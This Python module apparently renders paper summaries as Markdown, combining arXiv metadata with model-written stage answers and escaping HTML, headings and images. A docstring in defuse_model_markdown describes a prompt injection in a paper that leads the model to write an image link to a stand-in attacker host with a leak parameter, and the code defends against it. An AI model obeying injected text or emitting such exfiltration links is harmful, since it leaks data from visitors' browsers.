"""The Markdown a user reads and downloads: our metadata around the stages' answers.

Title, authors and links come from the arXiv metadata or the PDF, never from a model, so
they cannot be invented; a code link is shown only when it appears in the paper's text.
Pure functions: (paper, state, language) -> str.
"""

from __future__ import annotations

import re

from .grounding import Grounder
from .i18n import Language
from .links import own_code_links
from .paper import Paper
from .pipeline import StageResult, SummaryState
from .stages import numbered_stages

_TAG_LIKE = re.compile(r"<(?=[A-Za-z/!?])")


def escape_html(text: str) -> str:
    """Show HTML-looking text as text (``<ol>`` stays visible, never becomes markup)."""
    return _TAG_LIKE.sub("&lt;", text)


# ![alt](url "title"), bounded so the pattern stays linear on hostile text.
_INLINE_IMAGE = re.compile(
    r"!\[([^\]\n]{0,500})\]\(\s*<?([^()\s<>]{0,2000})>?(?:\s+(?:\"[^\"\n]{0,500}\"|'[^'\n]{0,500}'))?\s*\)"
)


def _image_as_text(match: re.Match[str]) -> str:
    alt = " ".join(match.group(1).split())
    url = match.group(2).replace("`", "")
    shown = f"`{url}`" if url else ""
    return f"{alt} ({shown})" if alt and shown else (alt or shown)


def defuse_model_markdown(text: str) -> str:
    """Model text as text plus safe formatting: no images, no raw HTML.

    A paper can carry a prompt injection that makes the model write
    ``![](https://attacker/?leak=...)``: rendered, every visitor's browser would fetch it. An
    inline image becomes its alt text and its URL in a code span (shown, never fetched or
    linked); any other image syntax (reference-style ``![alt][ref]``) is escaped so it shows
    literally; HTML tags are shown as text (``escape_html``). Our own figures are added
    around the model's text, never through it, so they still show.
    """
    text = _INLINE_IMAGE.sub(_image_as_text, text)
    text = text.replace("![", "!\\[")
    return escape_html(text)


_HEADING = re.compile(r"^(#{1,6})(\s)", re.MULTILINE)


def demote_headings(markdown: str, *, at_least: int = 3) -> str:
    """Push every heading down a level (and to ``###`` at least): a model's ``# Title`` inside
    a part never opens a part of its own, and a summary placed inside a digest's ``## title``
    entry never opens an entry of its own."""

    def lower(match: re.Match[str]) -> str:
        level = min(6, max(len(match.group(1)) + 1, at_least))
        return "#" * level + match.group(2)

    return _HEADING.sub(lower, markdown)


def _escape_inline(text: str) -> str:
    """Metadata on one line: no HTML, no stray Markdown emphasis or link syntax."""
    text = " ".join(text.split())
    text = escape_html(text)
    return re.sub(r"([\\`*_\[\]])", r"\\\1", text)


def paper_links(paper: Paper, lang: Language) -> str:
    labels = lang.labels
    parts: list[str] = []
    if paper.meta.abs_url:
        parts.append(f"{labels['paper_link']}: [arXiv:{paper.meta.arxiv_id}]({paper.meta.abs_url})")
        parts.append(f"[PDF]({paper.meta.pdf_url})")
    code = own_code_links(paper.text, paper.code_links(), paper.title or "")
    if code:
        parts.append(f"{labels['code_link']}: " + ", ".join(f"<{url}>" for url in code[:3]))
    else:
        parts.append(f"{labels['code_link']}: {labels['no_code']}")
    return " · ".join(parts)


def render_header(paper: Paper, lang: Language, *, engine_note: str | None = None) -> str:
    """Title, authors and links: shown as soon as the paper is read, before any model text."""
    labels = lang.labels
    lines = [f"# {_escape_inline(paper.title or paper.source)}", ""]
    if paper.authors:
        lines.append(f"**{labels['authors']}**: {_escape_inline(', '.join(paper.authors))}")
        lines.append("")
    lines.append(f"**{labels['urls']}**: {paper_links(paper, lang)}")
    meta = paper.meta
    extra: list[str] = []
    if meta.published:
        extra.append(f"**{labels['published']}**: {meta.published[:10]}")
    if meta.comment:
        extra.append(f"**{labels['comment']}**: {_escape_inline(meta.comment)}")
    if extra:
        lines.append("")
        lines.append(" · ".join(extra))
    if engine_note:
        lines += ["", f"> {engine_note}"]
    return "\n".join(lines)


_NUMBERED = re.compile(r"^\s*(?:\(\d+\)|（\d+）|\d+[.)]\s)")


def separate_numbered_parts(text: str) -> str:
    """Put each "(1) ..." part in its own paragraph: Markdown would run them together."""
    out: list[str] = []
    for line in text.splitlines():
        if _NUMBERED.match(line) and out and out[-1].strip():
            out.append("")
        out.append(line)
    return "\n".join(out)


def render_stage(
    result: StageResult | None, lang: Language, grounder: Grounder | None = None
) -> str:
    """One stage's text with its warnings and error, as its own panel shows it. With a
    ``grounder``, a finished text has its citations and numbers checked against the paper."""
    if result is None:
        return ""
    parts: list[str] = []
    if result.text.strip():
        text = demote_headings(defuse_model_markdown(result.text.strip()))  # parts are "##"
        if grounder is not None and result.done:
            text = grounder.annotate(text)
        parts.append(separate_numbered_parts(text))
    for warning in result.warnings:
        parts.append(f"> ⚠️ {escape_html(warning)}")
    if result.error:
        parts.append(f"> ❌ {lang.labels['stage_failed'].format(reason=escape_html(result.error))}")
    return "\n\n".join(parts)


def _field_pattern(label: str) -> re.Pattern[str]:
    return re.compile(
        rf"^\s*(?:[-*]\s*)?(?:\*\*)?{re.escape(label)}(?:\*\*)?\s*[:：]\s*(?:\*\*)?\s*(.*)$"
    )


def split_overview(text: str, lang: Language) -> tuple[str | None, str | None, str]:
    """(affiliation, keywords, the rest) from an overview answer."""
    affiliation_re = _field_pattern(lang.labels["affiliation"])
    keywords_re = _field_pattern(lang.labels["keywords"])
    affiliation = keywords = None
    rest: list[str] = []
    for line in text.splitlines():
        if affiliation is None and (m := affiliation_re.match(line)):
            affiliation = m.group(1).strip()
        elif keywords is None and (m := keywords_re.match(line)):
            keywords = m.group(1).strip()
        else:
            rest.append(line)
    return affiliation, keywords, "\n".join(rest).strip()


def render_document(
    paper: Paper,
    state: SummaryState,
    lang: Language,
    *,
    engine_note: str | None = None,
    grounder: Grounder | None = None,
) -> str:
    """The whole summary, in the structure users know from ChatPaper's posts."""
    out = [render_header(paper, lang, engine_note=engine_note)]
    tldr = state.stages.get("tldr")
    if tldr is not None:
        out += ["", render_stage(tldr, lang, grounder)]
    out += ["", "---", "", render_details(paper, state, lang, grounder)]
    return "\n".join(out).rstrip() + "\n"


def render_details(
    paper: Paper, state: SummaryState, lang: Language, grounder: Grounder | None = None
) -> str:
    """Basic information and the numbered parts (6-8): the document after its header and
    tldr, also what a digest entry shows under the paper's own Summary."""
    labels = lang.labels
    out: list[str] = []
    overview = state.stages.get("overview")
    affiliation, keywords, overview_rest = split_overview(overview.text if overview else "", lang)
    affiliation = affiliation or (paper.meta.affiliations[0] if paper.meta.affiliations else None)
    not_stated = labels["not_stated"]
    out += [
        f"## {labels['basic_info']}",
        "",
        f"1. **{labels['title']}**: {_escape_inline(paper.title or paper.source)}",
        f"2. **{labels['authors']}**: {_escape_inline(', '.join(paper.authors)) or not_stated}",
        f"3. **{labels['affiliation']}**: {escape_html(affiliation) if affiliation else not_stated}",
        f"4. **{labels['keywords']}**: {escape_html(keywords) if keywords else not_stated}",
        f"5. **{labels['urls']}**: {paper_links(paper, lang)}",
    ]
    for record in numbered_stages():
        stage = record.name
        result = state.stages.get(stage)
        if result is None:
            continue
        if stage == "overview":
            shown = StageResult(overview_rest, result.done, result.warnings, result.error)
        else:
            shown = result
        out += ["", f"## {record.heading(lang)}", "", render_stage(shown, lang, grounder)]
    if grounder is not None:
        line = grounder.summary(defuse_model_markdown(r.text.strip()) for r in state.stages.values())
        if line:
            out += ["", f"> 🔎 {line}"]
    return "\n".join(out).rstrip() + "\n"
